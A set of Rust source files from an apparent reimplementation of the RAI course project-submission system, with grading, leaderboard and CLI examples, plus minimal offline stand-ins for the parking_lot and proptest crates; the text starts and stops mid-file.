use rai::auth::{render_key_email, KeyGenerator, Roster};

fn main() {
    // 1. Keys from the roster (Listing 3).
    let roster = Roster::parse(
        "firstname,lastname,userid\nAda,Lovelace,alovelace\nAlan,Turing,aturing\n",
    )
    .expect("roster parses");
    let mut keygen = KeyGenerator::from_seed(408);
    println!("mailing credentials to {} students:", roster.len());
    for entry in &roster.entries {
        let creds = keygen.generate(&entry.user_id);
        let mail = render_key_email(entry, &creds, "illinois.edu");
        println!("  -> {} ({} bytes)", mail.to, mail.body.len());
    }

    // 2. A couple of teams make final submissions.
    let mut system = RaiSystem::new(SystemConfig {
        rate_limit: None,
        ..Default::default()
    });
    for (team, full_ms) in [("team-a", 480.0), ("team-b", 900.0)] {
        let creds = system.register_team(team, &[]);
        let project = ProjectDir::cuda_project_with_perf(full_ms, 0.92, 2048).with_final_artifacts();
        system.submit_final(&creds, &project).expect("final submission");
    }

    // 3. Bulk-download the finals from the file server.
    let grader = Grader::new(
        system.db().clone(),
        system.store().clone(),
        system.images().clone(),
    );
    let submissions = grader.download_final_submissions();
    println!("\ndownloaded {} final submissions:", submissions.len());
    for sub in &submissions {
        let code = sub.tree.subtree("submission_code");
        let required = Grader::check_required_files(&code);
        // Re-run 5 times, keep the minimum (paper §VI).
        let min_secs = grader.rerun_min_time(&code, 5, 42).expect("reruns succeed");
        println!(
            "  {:<8} recorded={:.3}s rerun-min={:.3}s required-files-ok={}",
            sub.team,
            sub.recorded_secs,
            min_secs,
            required.complete()
        );

        // 4. Grade: automated performance+correctness, manual quality+report.
        let report = grader.grade(&sub.team, min_secs, 0.92, 0.90, 1.0, 120.0, 8.5, 34.0);
        println!(
            "           grade: perf {:.1}/30 correctness {:.1}/20 quality {:.1}/10 report {:.1}/40 = {:.1}/100",
            report.performance,
            report.correctness,
            report.code_quality,
            report.written_report,
            report.total()
        );
    }

    // 5. Debug the slow submission in an interactive session (the
    //    paper's §VIII future work): a persistent container with the
    //    debugging tools available, gated on instructor credentials.
    let prof = system.register_instructor("prof-hwu");
    let slow_code = submissions
        .last()
        .expect("submissions downloaded")
        .tree
        .subtree("submission_code");
    let mut session = system
        .open_session(&prof, &slow_code, &SessionConfig::default())
        .expect("instructors may open sessions");
    println!("\ninteractive debugging session on {}:", submissions.last().unwrap().team);
    for cmd in ["cmake /src && make", "grep global /src/main.cu", "nvprof ./ece408 /data/test10.hdf5 /data/model.hdf5"] {
        let out = session.exec(cmd);
        println!("  $ {cmd}   [exit {}]", out.exit_code);
        for line in out.lines.iter().take(2) {
            println!("      {}", line.render());
        }
    }
    let artifacts = session.close();
    println!("  session artifacts: {} files in /build", artifacts.len());
}
