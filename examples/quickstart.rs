//! Quickstart: stand up an in-process RAI deployment, submit a project
//! the way a student would, then make a final submission and check the
//! leaderboard.
//!
//! ```text
//! cargo run --release --example quickstart
//! ```

use rai::core::client::ProjectDir;
use rai::core::system::{RaiSystem, SystemConfig};

fn main() {
    // Broker + file server + database + credential registry + 1 worker.
    let mut system = RaiSystem::new(SystemConfig::default());

    // The staff registers the team and e-mails it these credentials
    // (see the `instructor_tools` example for the full key-mail flow).
    let creds = system.register_team("gpu-gophers", &["alice", "bob", "carol"]);
    println!("credentials delivered to the team:\n{}", creds.to_profile());

    // A development run: the student's own rai-build.yml (Listing 1
    // defaults here) against the small test dataset.
    let project = ProjectDir::sample_cuda_project();
    let receipt = system.submit(&creds, &project).expect("dev run");
    println!("--- rai (job {:08x}) ---", receipt.job_id);
    for line in &receipt.log {
        println!("{line}");
    }
    println!(
        "dev run ok={} internal timer={:?}s build archive={:?}\n",
        receipt.success, receipt.internal_timer_secs, receipt.build_url
    );

    // The final submission requires USAGE + report.pdf and runs the
    // enforced full-dataset build file.
    let final_project = project.with_final_artifacts();
    let receipt = system
        .submit_final(&creds, &final_project)
        .expect("final submission");
    println!("--- rai submit (job {:08x}) ---", receipt.job_id);
    println!(
        "final ok={} measured={:.3}s",
        receipt.success,
        receipt.internal_timer_secs.expect("program ran")
    );

    // Check the team's competition standing.
    let board = system.rankings();
    println!(
        "\nranking: {:?} of {} team(s)",
        board.rank_of("gpu-gophers"),
        board.standings().len()
    );
    for row in board.view_for("gpu-gophers") {
        println!("  #{} {} {:.3}s{}", row.rank, row.display_name, row.runtime_secs,
                 if row.is_self { "  <- you" } else { "" });
    }
}
