//! The end-of-term competition scenario (paper §VI): teams with
//! different levels of optimization make final submissions; the
//! leaderboard shows each team its rank and everyone else anonymized;
//! the instructor sees the Fig. 2-style histogram.
//!
//! ```text
//! cargo run --release --example competition
//! ```

use rai::core::client::ProjectDir;
use rai::core::system::{RaiSystem, SystemConfig};

fn main() {
    let mut system = RaiSystem::new(SystemConfig {
        workers: 2,
        rate_limit: None,
        ..Default::default()
    });

    // Six teams at different stages of optimization: full-dataset
    // runtimes from a tuned 0.4 s kernel to a barely-GPU 40 s one.
    let field: [(&str, f64, f64); 6] = [
        ("warp-speed", 400.0, 0.93),
        ("tile-titans", 520.0, 0.92),
        ("shared-mem", 700.0, 0.91),
        ("coalesced", 1_100.0, 0.90),
        ("just-ported", 8_000.0, 0.88),
        ("still-naive", 40_000.0, 0.87),
    ];

    for (team, full_ms, acc) in field {
        let creds = system.register_team(team, &[]);
        let project = ProjectDir::cuda_project_with_perf(full_ms, acc, 2048).with_final_artifacts();
        let receipt = system.submit_final(&creds, &project).expect("final submission");
        println!(
            "{team:<12} submitted: ok={} measured={:.3}s",
            receipt.success,
            receipt.internal_timer_secs.expect("program ran")
        );
    }

    // What the "coalesced" team sees: own name, others anonymized.
    println!("\nleaderboard as team 'coalesced' sees it:");
    for row in system.rankings().view_for("coalesced") {
        println!(
            "  #{} {:<16} {:>8.3}s{}",
            row.rank,
            row.display_name,
            row.runtime_secs,
            if row.is_self { "  <- coalesced" } else { "" }
        );
    }

    // What the instructor plots (Fig. 2 style).
    println!("\ninstructor histogram (0.1 s bins):");
    print!("{}", system.rankings().top_n_histogram(30, 0.1, 25).ascii(40));
}
