//! # RAI — a scalable project submission system for parallel programming courses
//!
//! This workspace is a from-scratch Rust reproduction of
//! *"RAI: A Scalable Project Submission System for Parallel Programming
//! Courses"* (Dakkak, Pearson, Li, Hwu — IPDPS Workshops 2017).
//!
//! The `rai` crate is a facade that re-exports every subsystem:
//!
//! * [`sim`] — discrete-event simulation engine (virtual clock, event queue).
//! * [`yaml`] — parser for the YAML subset used by `rai-build.yml`.
//! * [`archive`] — tar-like archive container plus LZSS compression
//!   (the paper's `.tar.bz2` upload format).
//! * [`broker`] — NSQ-style pub/sub message broker with topics, channels
//!   and ephemeral log topics.
//! * [`store`] — S3-like object store with lifecycle (TTL) rules.
//! * [`db`] — MongoDB-like document database (queries, updates, indexes).
//! * [`sandbox`] — Docker-like container runtime simulation with resource
//!   limits and a deterministic build-command interpreter.
//! * [`auth`] — access/secret key generation, request signing, class
//!   roster handling and the key-delivery e-mail template.
//! * [`cluster`] — AWS-style instance catalogue, elastic worker pool and
//!   cost model.
//! * [`core`] — the paper's contribution: client, worker, job protocol,
//!   submissions, ranking, grading and delivery utilities.
//! * [`workload`] — student/team behaviour models used to regenerate the
//!   paper's figures.
//!
//! ## Quickstart
//!
//! ```
//! use rai::core::system::{RaiSystem, SystemConfig};
//! use rai::core::client::ProjectDir;
//!
//! // Stand up an in-process RAI deployment (broker + store + db + workers).
//! let mut system = RaiSystem::new(SystemConfig::default());
//! let creds = system.register_team("team-rust", &["alice", "bob"]);
//!
//! // A student project: source tree + rai-build.yml.
//! let project = ProjectDir::sample_cuda_project();
//! let receipt = system.submit(&creds, &project).expect("submission should succeed");
//! assert!(receipt.log.iter().any(|l| l.contains("Building project")));
//! ```

pub use rai_archive as archive;
pub use rai_auth as auth;
pub use rai_broker as broker;
pub use rai_cluster as cluster;
pub use rai_core as core;
pub use rai_db as db;
pub use rai_sandbox as sandbox;
pub use rai_sim as sim;
pub use rai_store as store;
pub use rai_telemetry as telemetry;
pub use rai_workload as workload;
pub use rai_yaml as yaml;
