//! A demonstration `rai` client driving an in-process deployment.
//!
//! Because this reproduction has no remote infrastructure, the binary
//! stands up a deployment, registers a demo team, and then executes the
//! given client subcommand against it — loading real project
//! directories from disk via `-p`:
//!
//! ```text
//! cargo run --release --bin rai-demo -- help
//! cargo run --release --bin rai-demo -- version
//! cargo run --release --bin rai-demo -- -p /path/to/project
//! cargo run --release --bin rai-demo -- submit -p /path/to/project
//! ```
//!
//! Without `-p` pointing at a real directory, a bundled sample CUDA
//! project is used, so `cargo run --bin rai-demo` works out of the box.

use rai::archive::FileTree;
use rai::core::cli::{execute, CliCommand, USAGE};
use rai::core::client::ProjectDir;
use rai::core::system::{RaiSystem, SystemConfig};

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg_refs: Vec<&str> = args.iter().map(String::as_str).collect();
    let command = match CliCommand::parse(&arg_refs) {
        Ok(c) => c,
        Err(e) => {
            rai::telemetry::log!(error, "{e}");
            eprint!("{USAGE}");
            std::process::exit(2);
        }
    };

    let mut system = RaiSystem::new(SystemConfig::default());
    let creds = system.register_team("demo-team", &["you"]);

    let load = |path: &str| -> Result<FileTree, String> {
        if path == "." && !std::path::Path::new("rai-build.yml").exists() {
            // No project in cwd: fall back to the bundled sample.
            return Ok(ProjectDir::sample_cuda_project().with_final_artifacts().tree);
        }
        FileTree::from_disk(std::path::Path::new(path)).map_err(|e| e.to_string())
    };

    let output = execute(&mut system, &creds, &command, load);
    print!("{output}");
}
