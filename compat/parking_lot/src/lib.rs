//! Minimal, API-compatible subset of `parking_lot` layered over
//! `std::sync`, so the workspace builds without network access.
//!
//! Differences from the real crate are deliberate simplifications:
//! poisoning is swallowed (`parking_lot` has no poisoning), and the
//! guards wrap the std guards in an `Option` so `Condvar::wait_for`
//! can temporarily take ownership of the inner guard.

use std::fmt;
use std::ops::{Deref, DerefMut};
use std::sync::PoisonError;
use std::time::Duration;

// ---------------------------------------------------------------- Mutex

pub struct Mutex<T: ?Sized> {
    inner: std::sync::Mutex<T>,
}

pub struct MutexGuard<'a, T: ?Sized> {
    // `Option` so Condvar::wait_for can take/restore the std guard.
    inner: Option<std::sync::MutexGuard<'a, T>>,
}

impl<T> Mutex<T> {
    pub const fn new(value: T) -> Self {
        Mutex { inner: std::sync::Mutex::new(value) }
    }

    pub fn into_inner(self) -> T {
        self.inner.into_inner().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized> Mutex<T> {
    pub fn lock(&self) -> MutexGuard<'_, T> {
        let guard = self.inner.lock().unwrap_or_else(PoisonError::into_inner);
        MutexGuard { inner: Some(guard) }
    }

    pub fn try_lock(&self) -> Option<MutexGuard<'_, T>> {
        match self.inner.try_lock() {
            Ok(guard) => Some(MutexGuard { inner: Some(guard) }),
            Err(std::sync::TryLockError::Poisoned(p)) => {
                Some(MutexGuard { inner: Some(p.into_inner()) })
            }
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: Default> Default for Mutex<T> {
    fn default() -> Self {
        Mutex::new(T::default())
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for Mutex<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.inner.fmt(f)
    }
}

impl<T: ?Sized> Deref for MutexGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        self.inner.as_ref().expect("guard present")
    }
}

impl<T: ?Sized> DerefMut for MutexGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        self.inner.as_mut().expect("guard present")
    }
}

// -------------------------------------------------------------- Condvar

pub struct Condvar {
    inner: std::sync::Condvar,
}

pub struct WaitTimeoutResult {
    timed_out: bool,
}

impl WaitTimeoutResult {
    pub fn timed_out(&self) -> bool {
        self.timed_out
    }
}

impl Condvar {
    pub const fn new() -> Self {
        Condvar { inner: std::sync::Condvar::new() }
    }

    pub fn notify_one(&self) {
        self.inner.notify_one();
    }

    pub fn notify_all(&self) {
        self.inner.notify_all();
    }

    pub fn wait<T>(&self, guard: &mut MutexGuard<'_, T>) {
        let std_guard = guard.inner.take().expect("guard present");
        let std_guard = self.inner.wait(std_guard).unwrap_or_else(PoisonError::into_inner);
        guard.inner = Some(std_guard);
    }

    pub fn wait_for<T>(
        &self,
        guard: &mut MutexGuard<'_, T>,
        timeout: Duration,
    ) -> WaitTimeoutResult {
        let std_guard = guard.inner.take().expect("guard present");
        let (std_guard, result) = match self.inner.wait_timeout(std_guard, timeout) {
            Ok((g, r)) => (g, r),
            Err(poisoned) => {
                let (g, r) = poisoned.into_inner();
                (g, r)
            }
        };
        guard.inner = Some(std_guard);
        WaitTimeoutResult { timed_out: result.timed_out() }
    }
}

impl Default for Condvar {
    fn default() -> Self {
        Condvar::new()
    }
}

// --------------------------------------------------------------- RwLock

pub struct RwLock<T: ?Sized> {
    inner: std::sync::RwLock<T>,
}

pub struct RwLockReadGuard<'a, T: ?Sized> {
    inner: std::sync::RwLockReadGuard<'a, T>,
}

pub struct RwLockWriteGuard<'a, T: ?Sized> {
    inner: std::sync::RwLockWriteGuard<'a, T>,
}

impl<T> RwLock<T> {
    pub const fn new(value: T) -> Self {
        RwLock { inner: std::sync::RwLock::new(value) }
    }

    pub fn into_inner(self) -> T {
        self.inner.into_inner().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: ?Sized> RwLock<T> {
    pub fn read(&self) -> RwLockReadGuard<'_, T> {
        RwLockReadGuard {
            inner: self.inner.read().unwrap_or_else(PoisonError::into_inner),
        }
    }

    pub fn write(&self) -> RwLockWriteGuard<'_, T> {
        RwLockWriteGuard {
            inner: self.inner.write().unwrap_or_else(PoisonError::into_inner),
        }
    }

    pub fn try_read(&self) -> Option<RwLockReadGuard<'_, T>> {
        match self.inner.try_read() {
            Ok(g) => Some(RwLockReadGuard { inner: g }),
            Err(std::sync::TryLockError::Poisoned(p)) => {
                Some(RwLockReadGuard { inner: p.into_inner() })
            }
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    pub fn try_write(&self) -> Option<RwLockWriteGuard<'_, T>> {
        match self.inner.try_write() {
            Ok(g) => Some(RwLockWriteGuard { inner: g }),
            Err(std::sync::TryLockError::Poisoned(p)) => {
                Some(RwLockWriteGuard { inner: p.into_inner() })
            }
            Err(std::sync::TryLockError::WouldBlock) => None,
        }
    }

    pub fn get_mut(&mut self) -> &mut T {
        self.inner.get_mut().unwrap_or_else(PoisonError::into_inner)
    }
}

impl<T: Default> Default for RwLock<T> {
    fn default() -> Self {
        RwLock::new(T::default())
    }
}

impl<T: ?Sized + fmt::Debug> fmt::Debug for RwLock<T> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        self.inner.fmt(f)
    }
}

impl<T: ?Sized> Deref for RwLockReadGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.inner
    }
}

impl<T: ?Sized> Deref for RwLockWriteGuard<'_, T> {
    type Target = T;
    fn deref(&self) -> &T {
        &self.inner
    }
}

impl<T: ?Sized> DerefMut for RwLockWriteGuard<'_, T> {
    fn deref_mut(&mut self) -> &mut T {
        &mut self.inner
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use std::sync::Arc;
    use std::time::Instant;

    #[test]
    fn mutex_round_trip() {
        let m = Mutex::new(1);
        *m.lock() += 1;
        assert_eq!(*m.lock(), 2);
    }

    #[test]
    fn rwlock_readers_and_writer() {
        let l = RwLock::new(vec![1, 2]);
        assert_eq!(l.read().len(), 2);
        l.write().push(3);
        assert_eq!(l.read().len(), 3);
    }

    #[test]
    fn condvar_wait_for_times_out() {
        let m = Mutex::new(());
        let cv = Condvar::new();
        let mut g = m.lock();
        let start = Instant::now();
        let result = cv.wait_for(&mut g, Duration::from_millis(10));
        assert!(result.timed_out());
        assert!(start.elapsed() >= Duration::from_millis(5));
    }

    #[test]
    fn condvar_notify_wakes_waiter() {
        let m = Arc::new(Mutex::new(false));
        let cv = Arc::new(Condvar::new());
        let (m2, cv2) = (Arc::clone(&m), Arc::clone(&cv));
        let handle = std::thread::spawn(move || {
            let mut g = m2.lock();
            while !*g {
                let r = cv2.wait_for(&mut g, Duration::from_secs(5));
                assert!(!r.timed_out(), "should be woken, not time out");
            }
        });
        std::thread::sleep(Duration::from_millis(20));
        *m.lock() = true;
        cv.notify_all();
        handle.join().expect("waiter finished");
    }
}
