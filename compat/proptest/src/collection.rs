//! Collection strategies (`prop::collection::vec`).

use crate::strategy::Strategy;
use crate::test_runner::TestRng;

/// Size specification for generated collections.
#[derive(Clone, Debug)]
pub struct SizeRange {
    min: usize,
    max_inclusive: usize,
}

impl From<usize> for SizeRange {
    fn from(exact: usize) -> Self {
        SizeRange { min: exact, max_inclusive: exact }
    }
}

impl From<std::ops::Range<usize>> for SizeRange {
    fn from(range: std::ops::Range<usize>) -> Self {
        assert!(range.start < range.end, "empty collection size range");
        SizeRange { min: range.start, max_inclusive: range.end - 1 }
    }
}

impl From<std::ops::RangeInclusive<usize>> for SizeRange {
    fn from(range: std::ops::RangeInclusive<usize>) -> Self {
        SizeRange { min: *range.start(), max_inclusive: *range.end() }
    }
}

pub struct VecStrategy<S> {
    element: S,
    size: SizeRange,
}

impl<S: Clone> Clone for VecStrategy<S> {
    fn clone(&self) -> Self {
        VecStrategy { element: self.element.clone(), size: self.size.clone() }
    }
}

/// `prop::collection::vec(element, size)` — a Vec whose length is
/// uniform in `size` and whose elements come from `element`.
pub fn vec<S: Strategy>(element: S, size: impl Into<SizeRange>) -> VecStrategy<S> {
    VecStrategy { element, size: size.into() }
}

impl<S: Strategy> Strategy for VecStrategy<S> {
    type Value = Vec<S::Value>;
    fn gen_value(&self, rng: &mut TestRng) -> Vec<S::Value> {
        let span = (self.size.max_inclusive - self.size.min + 1) as u64;
        let len = self.size.min + rng.below(span) as usize;
        (0..len).map(|_| self.element.gen_value(rng)).collect()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn vec_lengths_cover_range() {
        let strat = vec(0u8..=255, 0..5);
        let mut rng = TestRng::for_case("collection::tests", 0);
        let mut seen = [false; 5];
        for _ in 0..300 {
            let v = strat.gen_value(&mut rng);
            assert!(v.len() < 5);
            seen[v.len()] = true;
        }
        assert!(seen.iter().all(|&s| s), "all lengths 0..5 generated");
    }
}
