//! Test-loop configuration, error channel, and the deterministic RNG
//! that drives generation.

/// Subset of `proptest::test_runner::ProptestConfig`.
#[derive(Clone, Debug)]
pub struct ProptestConfig {
    /// Number of generated cases per test.
    pub cases: u32,
    /// Accepted for API compatibility; rejection is cheap here so the
    /// limit is not enforced.
    pub max_global_rejects: u32,
}

impl Default for ProptestConfig {
    fn default() -> Self {
        ProptestConfig { cases: 256, max_global_rejects: 65_536 }
    }
}

impl ProptestConfig {
    pub fn with_cases(cases: u32) -> Self {
        ProptestConfig { cases, ..Default::default() }
    }
}

/// Why a single generated case did not pass.
#[derive(Clone, Debug)]
pub enum TestCaseError {
    /// `prop_assume!` failed — skip the case, it does not count.
    Reject(String),
    /// `prop_assert*!` failed — the property is violated.
    Fail(String),
}

/// Deterministic generation RNG (SplitMix64). Each test case gets a
/// seed derived from the test's full path and the case index, so runs
/// are reproducible without any persisted state.
#[derive(Clone, Debug)]
pub struct TestRng {
    state: u64,
}

impl TestRng {
    pub fn for_case(test_path: &str, case: u32) -> Self {
        // FNV-1a over the test path, mixed with the case index.
        let mut hash: u64 = 0xCBF2_9CE4_8422_2325;
        for byte in test_path.bytes() {
            hash ^= byte as u64;
            hash = hash.wrapping_mul(0x0000_0100_0000_01B3);
        }
        let mut rng = TestRng { state: hash ^ ((case as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15)) };
        rng.next_u64();
        rng
    }

    pub fn next_u64(&mut self) -> u64 {
        self.state = self.state.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.state;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform value in `[0, n)`; `n` must be non-zero.
    pub fn below(&mut self, n: u64) -> u64 {
        debug_assert!(n > 0);
        self.next_u64() % n
    }

    /// Uniform f64 in `[0, 1)`.
    pub fn unit_f64(&mut self) -> f64 {
        (self.next_u64() >> 11) as f64 * (1.0 / (1u64 << 53) as f64)
    }

    /// Uniform signed value in `[lo, hi]` (inclusive, `lo <= hi`).
    pub fn int_between(&mut self, lo: i128, hi: i128) -> i128 {
        debug_assert!(lo <= hi);
        let span = (hi - lo + 1) as u128;
        if span == 0 {
            // Full u128 span cannot happen for the 64-bit-derived
            // ranges used here; treat as "any 64 bits".
            return lo + self.next_u64() as i128;
        }
        let wide = ((self.next_u64() as u128) << 64) | self.next_u64() as u128;
        lo + (wide % span) as i128
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn rng_is_deterministic_per_path_and_case() {
        let mut a = TestRng::for_case("mod::test", 3);
        let mut b = TestRng::for_case("mod::test", 3);
        assert_eq!(a.next_u64(), b.next_u64());
        let mut c = TestRng::for_case("mod::test", 4);
        assert_ne!(a.next_u64(), c.next_u64());
    }

    #[test]
    fn int_between_stays_in_bounds() {
        let mut rng = TestRng::for_case("bounds", 0);
        for _ in 0..10_000 {
            let v = rng.int_between(-5, 5);
            assert!((-5..=5).contains(&v));
        }
    }
}
