//! Minimal, API-compatible subset of `proptest` so the workspace's
//! property tests build and run without network access.
//!
//! Scope: deterministic random generation driven by a per-test seed,
//! the `proptest!` / `prop_assert*` / `prop_oneof!` macros, strategy
//! combinators (`prop_map`, `prop_recursive`, tuples, collections,
//! ranges, regex-shaped strings). Deliberately absent: shrinking,
//! failure persistence, and forked execution — a failing case panics
//! with the generated inputs in the message instead.

pub mod arbitrary;
pub mod collection;
pub mod num;
pub mod strategy;
pub mod string;
pub mod test_runner;

pub use arbitrary::any;
pub use strategy::{BoxedStrategy, Just, Strategy, Union};

/// Free-function generation entry point used by the `proptest!`
/// expansion (avoids requiring the trait in scope at the call site).
pub fn generate<S: Strategy>(strategy: &S, rng: &mut test_runner::TestRng) -> S::Value {
    strategy.gen_value(rng)
}

pub mod prelude {
    pub use crate::arbitrary::any;
    pub use crate::strategy::{BoxedStrategy, Just, Strategy};
    pub use crate::test_runner::{ProptestConfig, TestCaseError};
    pub use crate::{prop_assert, prop_assert_eq, prop_assert_ne, prop_assume, prop_oneof, proptest};

    pub mod prop {
        pub use crate::collection;
        pub use crate::num;
        pub use crate::strategy;
        pub use crate::string;
    }
}

#[macro_export]
macro_rules! proptest {
    (#![proptest_config($config:expr)] $($rest:tt)*) => {
        $crate::__proptest_body! { config = $config; $($rest)* }
    };
    ($($rest:tt)*) => {
        $crate::__proptest_body! {
            config = $crate::test_runner::ProptestConfig::default();
            $($rest)*
        }
    };
}

#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_body {
    (config = $config:expr;
     $(
         $(#[$meta:meta])*
         fn $name:ident($($pat:pat in $strat:expr),+ $(,)?) $body:block
     )*
    ) => {
        $(
            $(#[$meta])*
            fn $name() {
                let __config = $config;
                let __strategies = ($(&$strat,)+);
                for __case in 0..__config.cases {
                    let mut __rng = $crate::test_runner::TestRng::for_case(
                        concat!(module_path!(), "::", stringify!($name)),
                        __case,
                    );
                    $crate::__proptest_bind!(__strategies, __rng, $($pat),+);
                    let __outcome: ::std::result::Result<(), $crate::test_runner::TestCaseError> =
                        (|| { $body ::std::result::Result::Ok(()) })();
                    match __outcome {
                        ::std::result::Result::Ok(()) => {}
                        ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject(_)) => {
                            continue;
                        }
                        ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(__msg)) => {
                            panic!(
                                "proptest case {} of test `{}` failed: {}",
                                __case,
                                stringify!($name),
                                __msg
                            );
                        }
                    }
                }
            }
        )*
    };
}

/// Destructure the tuple of strategy references positionally, binding
/// each generated value to its pattern.
#[doc(hidden)]
#[macro_export]
macro_rules! __proptest_bind {
    ($strategies:ident, $rng:ident, $p0:pat) => {
        let $p0 = $crate::generate($strategies.0, &mut $rng);
    };
    ($strategies:ident, $rng:ident, $p0:pat, $p1:pat) => {
        let $p0 = $crate::generate($strategies.0, &mut $rng);
        let $p1 = $crate::generate($strategies.1, &mut $rng);
    };
    ($strategies:ident, $rng:ident, $p0:pat, $p1:pat, $p2:pat) => {
        let $p0 = $crate::generate($strategies.0, &mut $rng);
        let $p1 = $crate::generate($strategies.1, &mut $rng);
        let $p2 = $crate::generate($strategies.2, &mut $rng);
    };
    ($strategies:ident, $rng:ident, $p0:pat, $p1:pat, $p2:pat, $p3:pat) => {
        let $p0 = $crate::generate($strategies.0, &mut $rng);
        let $p1 = $crate::generate($strategies.1, &mut $rng);
        let $p2 = $crate::generate($strategies.2, &mut $rng);
        let $p3 = $crate::generate($strategies.3, &mut $rng);
    };
    ($strategies:ident, $rng:ident, $p0:pat, $p1:pat, $p2:pat, $p3:pat, $p4:pat) => {
        let $p0 = $crate::generate($strategies.0, &mut $rng);
        let $p1 = $crate::generate($strategies.1, &mut $rng);
        let $p2 = $crate::generate($strategies.2, &mut $rng);
        let $p3 = $crate::generate($strategies.3, &mut $rng);
        let $p4 = $crate::generate($strategies.4, &mut $rng);
    };
    ($strategies:ident, $rng:ident, $p0:pat, $p1:pat, $p2:pat, $p3:pat, $p4:pat, $p5:pat) => {
        let $p0 = $crate::generate($strategies.0, &mut $rng);
        let $p1 = $crate::generate($strategies.1, &mut $rng);
        let $p2 = $crate::generate($strategies.2, &mut $rng);
        let $p3 = $crate::generate($strategies.3, &mut $rng);
        let $p4 = $crate::generate($strategies.4, &mut $rng);
        let $p5 = $crate::generate($strategies.5, &mut $rng);
    };
}

#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, concat!("assertion failed: ", stringify!($cond)))
    };
    ($cond:expr, $($fmt:tt)*) => {
        if !$cond {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Fail(
                format!($($fmt)*),
            ));
        }
    };
}

#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(
            *__l == *__r,
            "assertion failed: `(left == right)`\n  left: `{:?}`\n right: `{:?}`",
            __l,
            __r
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(
            *__l == *__r,
            "assertion failed: `(left == right)`\n  left: `{:?}`\n right: `{:?}`\n{}",
            __l,
            __r,
            format!($($fmt)*)
        );
    }};
}

#[macro_export]
macro_rules! prop_assert_ne {
    ($left:expr, $right:expr $(,)?) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(
            *__l != *__r,
            "assertion failed: `(left != right)`\n  both: `{:?}`",
            __l
        );
    }};
    ($left:expr, $right:expr, $($fmt:tt)*) => {{
        let (__l, __r) = (&$left, &$right);
        $crate::prop_assert!(
            *__l != *__r,
            "assertion failed: `(left != right)`\n  both: `{:?}`\n{}",
            __l,
            format!($($fmt)*)
        );
    }};
}

#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !$cond {
            return ::std::result::Result::Err($crate::test_runner::TestCaseError::Reject(
                concat!("assumption failed: ", stringify!($cond)).to_string(),
            ));
        }
    };
}

#[macro_export]
macro_rules! prop_oneof {
    ($($strategy:expr),+ $(,)?) => {
        $crate::strategy::Union::new(vec![
            $($crate::strategy::Strategy::boxed($strategy)),+
        ])
    };
}
