//! Regex-shaped string generation (`proptest::string::string_regex`).
//!
//! Supports the subset of regex syntax the workspace's tests use:
//! literals, escapes, character classes with ranges, groups, and the
//! `{m}`, `{m,n}`, `?`, `*`, `+` quantifiers. Alternation (`|`),
//! anchors, and negated classes are not implemented and produce an
//! `Err` — matching real proptest's behavior of failing fast on
//! unsupported patterns.

use crate::strategy::Strategy;
use crate::test_runner::TestRng;

/// Upper bound for the open-ended `*` / `+` quantifiers.
const UNBOUNDED_MAX: u32 = 8;

#[derive(Clone, Debug)]
enum Node {
    Literal(char),
    /// Expanded set of candidate characters.
    Class(Vec<char>),
    Group(Vec<Node>),
    Repeat(Box<Node>, u32, u32),
}

#[derive(Clone, Debug)]
pub struct RegexGeneratorStrategy {
    nodes: Vec<Node>,
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Error(String);

impl std::fmt::Display for Error {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        write!(f, "unsupported regex: {}", self.0)
    }
}

impl std::error::Error for Error {}

pub fn string_regex(pattern: &str) -> Result<RegexGeneratorStrategy, Error> {
    let mut chars = pattern.chars().peekable();
    let nodes = parse_sequence(&mut chars, None)?;
    if chars.next().is_some() {
        return Err(Error("unbalanced ')'".into()));
    }
    Ok(RegexGeneratorStrategy { nodes })
}

type Chars<'a> = std::iter::Peekable<std::str::Chars<'a>>;

fn parse_sequence(chars: &mut Chars, until: Option<char>) -> Result<Vec<Node>, Error> {
    let mut nodes = Vec::new();
    loop {
        match chars.peek().copied() {
            None => {
                if until.is_some() {
                    return Err(Error("unterminated group".into()));
                }
                return Ok(nodes);
            }
            Some(c) if Some(c) == until => {
                chars.next();
                return Ok(nodes);
            }
            Some('|') => return Err(Error("alternation '|' not supported".into())),
            Some('^') | Some('$') => return Err(Error("anchors not supported".into())),
            Some('(') => {
                chars.next();
                let inner = parse_sequence(chars, Some(')'))?;
                nodes.push(apply_quantifier(Node::Group(inner), chars)?);
            }
            Some('[') => {
                chars.next();
                let class = parse_class(chars)?;
